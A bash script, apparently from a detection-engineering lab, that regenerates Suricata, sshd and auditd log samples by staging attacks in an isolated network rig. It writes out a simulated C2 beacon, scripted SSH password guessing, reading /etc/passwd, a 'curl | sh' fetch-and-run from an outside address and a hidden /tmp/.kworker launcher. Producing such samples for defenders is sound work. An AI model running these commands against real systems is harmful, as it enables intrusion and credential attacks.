#!/usr/bin/env bash
# capture.sh suricata|sshd|auditd…: makes the captured samples of content/samples again, on real programs in the rig.
# For a practice machine only (root; no syslog daemon, no auditd). Wants tcpdump, auditd and python3 besides what
# `make setup` brings. The Windows and OCSF samples are written, by written.py.
. "$(dirname "$0")/../lib.sh"

[ "$(id -u)" = 0 ] || die "needs root"
samples=$ROOT/content/samples
dir=$(mktemp -d)
net() { bash "$ROOT/scripts/rig/net.sh" "$@"; }
children=
trap 'kill $children 2>/dev/null || true; net down "$dir"; rm -rf "$dir"' EXIT

# host ADDRESS: gives the inside room one more address, as if another machine stood there.
host() { net in "$dir" inside ip addr add "$1/24" dev eth0; }

# from ADDRESS URL [curl options…]: one request of that machine.
from() {
    local address=$1 url=$2
    shift 2
    net in "$dir" inside curl -sS -o /dev/null --max-time 5 --interface "$address" "$@" "$url"
}

rig_up() {
    net up "$dir" $$ >"$dir.env"
    . "$dir.env"
    rm "$dir.env"
}

# ws-03 fetches a program from a bare address and calls home; ws-05 and ws-08 browse.
suricata_traffic() {
    local turn news=192.0.2.80 browser='Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0'
    net in "$dir" outside ip addr add $news/32 dev eth0
    net in "$dir" firewall ip route add $news dev outside0
    host 10.20.0.13 && host 10.20.0.15 && host 10.20.0.18
    from 10.20.0.15 http://$news/ -A "$browser"
    from 10.20.0.13 "http://$OUTSIDE_IP/dl/viewer.exe" -A 'viewer-setup/2.1'
    for turn in 1 2 3 4 5; do
        sleep $((3 + turn % 2))
        from 10.20.0.13 "http://$OUTSIDE_IP/gate.php?id=7f3a&n=$turn" -A 'viewer/2.1' --data "seq=$turn&state=idle"
        [ $turn != 3 ] || from 10.20.0.18 http://$news/weather -A "$browser"
    done
}

capture_suricata() {
    local dump
    mkdir -p "$samples/suricata" "$dir/read"
    ip netns exec "$FIREWALL_NS" tcpdump -i inside0 -U -w "$dir/beacon.pcap" tcp 2>"$dir/tcpdump.out" &
    dump=$! children="$children $!"
    until grep -q 'listening on' "$dir/tcpdump.out"; do sleep 0.05; done
    suricata_traffic
    sleep 1
    kill $dump
    wait $dump || true
    cp "$dir/beacon.pcap" "$samples/suricata/c2-beacon.pcap"
    sed "s|@DIR@|$dir/read|; s|@INTERFACE@|lo|" "$ROOT/scripts/rig/suricata.yaml" >"$dir/read.yaml"
    suricata -c "$dir/read.yaml" -S "$samples/suricata/local.rules" -l "$dir/read" -k none \
        -r "$samples/suricata/c2-beacon.pcap" >"$dir/read.out"
    # A sensor reads a cable, not a file: the place of the capture is left out.
    grep -v '"event_type":"stats"' "$dir/read/eve.json" |
        sed -E 's/"pcap_filename":"[^"]*",?//; s/"pcap_cnt":[0-9]+,//' >"$samples/suricata/c2-beacon.ndjson"
}

# guess USER: three wrong passwords for USER, from the other outside address.
guess() {
    net in "$dir" outside env -u DISPLAY SSH_ASKPASS="$dir/askpass" SSH_ASKPASS_REQUIRE=force setsid ssh -b "$OUTSIDE_OTHER_IP" \
        -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o LogLevel=ERROR \
        -o NumberOfPasswordPrompts=3 "$1@10.20.0.30" true 2>/dev/null </dev/null || true
}

# Somebody outside guesses passwords on bastion-01; an administrator logs in by key from ws-01 in between.
capture_sshd() {
    local syslog bastion user
    mkdir -p "$samples/sshd" /run/sshd
    host 10.20.0.30
    printf '#!/bin/sh\necho "guess-$$"\n' >"$dir/askpass" && chmod 755 "$dir/askpass" "$dir"
    sed -e 's/^Port .*/Port 22/; s/^ListenAddress .*/ListenAddress 10.20.0.30/; s/^UsePAM .*/UsePAM yes/' \
        -e 's/^PasswordAuthentication .*/PasswordAuthentication yes/; s/^LogLevel .*/LogLevel INFO/' \
        -e 's/^PermitRootLogin .*/PermitRootLogin yes/; s|^PidFile .*|PidFile none|' "$dir/sshd_config" >"$dir/bastion_config"
    python3 "$ROOT/scripts/samples/syslog.py" bastion-01 "$samples/sshd/bruteforce.log" >"$dir/syslog.out" &
    syslog=$! children="$children $!"
    until grep -q listening "$dir/syslog.out"; do kill -0 $syslog || die "the syslog receiver ended"; sleep 0.05; done
    ip netns exec "$INSIDE_NS" "$(command -v sshd)" -D -f "$dir/bastion_config" &
    bastion=$! children="$children $!"
    until grep -q "Server listening" "$samples/sshd/bruteforce.log"; do sleep 0.05; done
    for user in root admin; do guess $user; done
    net in "$dir" inside ssh -b 10.20.0.11 -i "$dir/admin_key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        -o LogLevel=ERROR root@10.20.0.30 true
    for user in oracle test postgres root; do guess $user; done
    kill $bastion $syslog
    wait $bastion $syslog || true
}

# A web server's account fetches a program, makes it executable in /tmp and starts it; cron's account does ordinary work.
capture_auditd() {
    local daemon rule
    mkdir -p "$samples/auditd" "$dir/audit"
    cat >"$dir/audit/auditd.conf" <<CONFIG
log_file = $dir/audit/audit.log
log_format = RAW
local_events = yes
write_logs = yes
flush = INCREMENTAL_ASYNC
freq = 50
space_left = 75
admin_space_left = 50
name_format = user
name = srv-web-01
max_log_file_action = IGNORE
space_left_action = IGNORE
admin_space_left_action = IGNORE
disk_full_action = IGNORE
disk_error_action = IGNORE
CONFIG
    chmod 640 "$dir/audit/auditd.conf"
    auditd -n -c "$dir/audit" >"$dir/audit/out" 2>&1 &
    daemon=$! children="$children $!"
    until auditctl -s | grep -q "^pid $daemon$"; do kill -0 $daemon || die "auditd ended: $(cat "$dir/audit/out")"; sleep 0.05; done
    for rule in 33 2; do auditctl -a always,exit -F arch=b64 -S execve -F uid=$rule -F success=1 -k exec; done
    as() { (cd / && net in "$dir" inside env -i PATH=/usr/bin:/bin setpriv --reuid="$1" --regid="$1" --clear-groups /bin/sh -c "$2"); }
    as 2 'date >/dev/null; ls /etc >/dev/null'
    as 33 "id; uname -a; cat /etc/passwd" >/dev/null
    as 33 "curl -s http://$OUTSIDE_IP/a.sh | sh" 2>/dev/null || true
    as 33 "printf '#!/bin/sh\nexec true\n' >/tmp/.kworker; chmod 755 /tmp/.kworker; /tmp/.kworker -o $OUTSIDE_IP:443; rm /tmp/.kworker"
    auditctl -D >/dev/null
    kill $daemon
    wait $daemon || true
    auditctl -e 0 >/dev/null
    # What the daemon says of itself names the machine's kernel; setpriv is how this script changed accounts.
    grep -vE 'type=(DAEMON|CONFIG)|comm="auditctl"' "$dir/audit/audit.log" |
        keep_events >"$samples/auditd/web-shell.log"
}

# Only events that have a SYSCALL record of our rule.
keep_events() {
    python3 -c '
import re, sys
lines = sys.stdin.read().splitlines()
key = lambda line: re.search(r"audit\(([\d.]+:\d+)\)", line).group(1)
ours = {key(line) for line in lines if "type=SYSCALL" in line and "key=\"exec\"" in line}
print("\n".join(line for line in lines if key(line) in ours))'
}

[ $# -gt 0 ] || die "usage: capture.sh suricata|sshd|auditd…"
rig_up
for what in "$@"; do timed "$what" "capture_$what"; done
